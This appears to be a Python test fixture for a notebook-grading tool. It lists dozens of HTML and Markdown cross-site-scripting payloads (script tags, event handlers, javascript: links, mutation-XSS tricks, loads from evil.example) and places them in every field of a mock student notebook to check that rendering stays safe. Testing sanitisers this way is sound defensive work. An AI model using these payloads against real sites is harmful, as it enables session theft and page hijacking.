"""What a learner may put into a notebook to make another person's browser do something.

Each calls ``ran()`` if it runs, or asks for something of ``evil.example`` if it loads.
"""

from typing import Any

from marked_class import marked

from workbook.grading.records import Marked, MarkedCell, MarkedNotebook, Part

HTML = [
    "<script>ran()</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>ran()</scr</script>ipt>",
    "<img src=x onerror=ran()>",
    "<img src=x onerror='ran()' alt='x>y'>",
    '<img dir="x><script>ran()</script>" src=x>',
    '<img alt="x><script>ran()</script>" src=https://evil.example/x.png>',
    "<img src=https://evil.example/pixel.png>",
    "<img srcset='https://evil.example/pixel.png 1x'>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InJhbigpIi8+'>",
    "<svg onload=ran()></svg>",
    "<svg><script>ran()</script></svg>",
    "<svg><animate onbegin=ran() attributeName=x dur=1s></svg>",
    "<svg><a xlink:href='javascript:ran()'><text y=20>click</text></a></svg>",
    "<svg><style><img src=x onerror=ran()></style></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=ran()>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 '
    'onerror=ran()&gt;">',
    "<math><a xlink:href=javascript:ran()>click</a></math>",
    '<noscript><p title="</noscript><img src=x onerror=ran()>">',
    "<template><img src=x onerror=ran()></template>",
    "<iframe src='javascript:parent.ran()'></iframe>",
    "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
    "<object data='https://evil.example/x.swf'></object>",
    "<embed src='https://evil.example/x.swf'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css'; main { display: none }</style>",
    "<p style='background: url(https://evil.example/x.png)'>styled</p>",
    "<div style='position: fixed; inset: 0; background: red'>over everything</div>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0; url=https://evil.example/'>",
    "<form action='https://evil.example/'><input name=q autofocus onfocus=ran()>"
    "<button>send</button></form>",
    "<a href='javascript:ran()'>click</a>",
    "<a href='jav&#x09;ascript:ran()'>click</a>",
    "<a href=' &#14; javascript:ran()'>click</a>",
    "<a href='data:text/html,<script>ran()</script>'>click</a>",
    "<a href='vbscript:ran()'>click</a>",
    "<a href='https://evil.example/' ping='https://evil.example/ping' target=_blank>click</a>",
    "<details open ontoggle=ran()><summary>x</summary></details>",
    "<video><source onerror=ran()></video>",
    "<video poster=https://evil.example/x.png src=https://evil.example/x.mp4 autoplay></video>",
    "<audio src=https://evil.example/x.mp3 autoplay></audio>",
    "<body onload=ran()>",
    "<marquee onstart=ran()>x</marquee>",
    "<table background=https://evil.example/x.png><tr><td>x</td></tr></table>",
    "<isindex type=image src=1 onerror=ran()>",
    "<x onclick=ran() onmouseover=ran()>an element of its own</x>",
    "<div onpointerenter=ran() tabindex=0 onfocus=ran()>touch</div>",
    "</div></main></body></html><script>ran()</script>",
    "</pre></code><script>ran()</script>",
    "--><script>ran()</script><!--",
    "<!--><script>ran()</script>-->",
    "]]><script>ran()</script>",
    "<p id=score name=score class=score>the page's own words</p>",
    "\x00<script\x00>ran()</script>",
    "<\ud800script>ran()</script>",
]
MARKDOWN = [
    "[click](javascript:ran())",
    "[click](JaVaScRiPt:ran())",
    "[click](java&#115;cript:ran())",
    "[click](\\x01javascript:ran())",
    "[click](data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==)",
    "[click](vbscript:ran())",
    "[click][a]\n\n[a]: javascript:ran()",
    "<javascript:ran()>",
    "![x](javascript:ran())",
    "![x](https://evil.example/pixel.png)",
    '![x" onerror="ran()](https://evil.example/pixel.png "t\\" onerror=ran()")',
    "[![x](https://evil.example/pixel.png)](javascript:ran())",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InJhbigpIi8+)",
    "![x](data:image/png;base64,PHN2ZyBvbmxvYWQ9InJhbigpIi8+)",
    "![x](//evil.example/pixel.png)",
    "![x](attachment:evil.png)",
    '[x](https://evil.example/" onmouseover="ran())',
    "$$</div><script>ran()</script>$$",
    "a formula $<img src=x onerror=ran()>$ in a line",
    '```"><script>ran()</script>\n<script>ran()</script>\n```',
    "| a |\n|:-:|\n| <img src=x onerror=ran()> |",
    "# <script>ran()</script>",
    "`<script>ran()</script>`",
    "&lt;script&gt;ran()&lt;/script&gt;",
    '[x]: https://evil.example/ "<script>ran()</script>"',
]
EVERYTHING = [*HTML, *MARKDOWN]


def hostile() -> Marked:
    """A submission with all of it, in every place that a page shows."""
    cells: list[dict[str, Any]] = [_markdown("# <script>ran()</script><img src=x onerror=ran()>")]
    for payload in EVERYTHING:
        cells += [_markdown(payload), _code(payload)]
    evil = "<img src=x onerror=ran()>"
    cells.append(_graded("q", f"### BEGIN HIDDEN TESTS\nsecret = 1\n# {evil}"))
    parts = tuple(Part(one, "NOT_YET", f"Your answer: `{one}`") for one in EVERYTHING)
    graded = MarkedCell(
        grade_id="q", points=2.0, score=0.0, question=evil, number=evil, parts=parts, error=evil
    )
    whole = MarkedCell(grade_id=evil, points=1.0, score=None, question=evil, hidden=True)
    book = MarkedNotebook(
        "03</title><script>ran()</script>",
        {"cells": cells, "metadata": {"title": evil}, "nbformat": 4, "nbformat_minor": 5},
        (graded, whole),
        tuple(EVERYTHING),
    )
    name = '"><script>ran()</script>'
    return Marked(name, name, (book,), notes=tuple(EVERYTHING), sandboxed=False)


def honest() -> Marked:
    return marked("partly")


def _markdown(source: str) -> dict[str, Any]:
    evil = {"image/png": "PHN2ZyBvbmxvYWQ9InJhbigpIi8+", "image/svg+xml": "<svg onload=ran()>"}
    return {
        "cell_type": "markdown",
        "id": source,
        "metadata": {"tags": [source]},
        "source": source,
        "attachments": {"evil.png": evil},
    }


def _graded(name: str, source: str) -> dict[str, Any]:
    noted = {"grade": True, "solution": False, "locked": True, "grade_id": name, "points": 2}
    return _code(source) | {"metadata": {"nbgrader": noted}}


def _code(payload: str) -> dict[str, Any]:
    def shown(**forms: Any) -> dict[str, Any]:
        data = {name.replace("_", "/", 1).replace("_", "+"): one for name, one in forms.items()}
        return {"output_type": "display_data", "metadata": {}, "data": data}

    return {
        "cell_type": "code",
        "id": payload,
        "metadata": {"jupyter": {"source_hidden": True}, "workbook": {"hints": [payload]}},
        "source": payload,
        "execution_count": 1,
        "outputs": [
            shown(text_html=payload, text_plain=payload),
            shown(image_svg_xml=payload, application_javascript="ran()"),
            shown(image_png=payload),
            shown(image_jpeg=[payload]),
            shown(text_markdown=payload),
            shown(text_latex=payload),
            {"output_type": "stream", "name": "stderr", "text": payload},
            {"output_type": "stream", "name": payload, "text": ["\x1b[31m", payload, "\x1b[0m"]},
            {
                "output_type": "error",
                "ename": payload,
                "evalue": payload,
                "traceback": [payload, f"\x1b]8;;https://evil.example/\x07{payload}\x1b]8;;\x07"],
            },
            {"output_type": payload},
        ],
    }
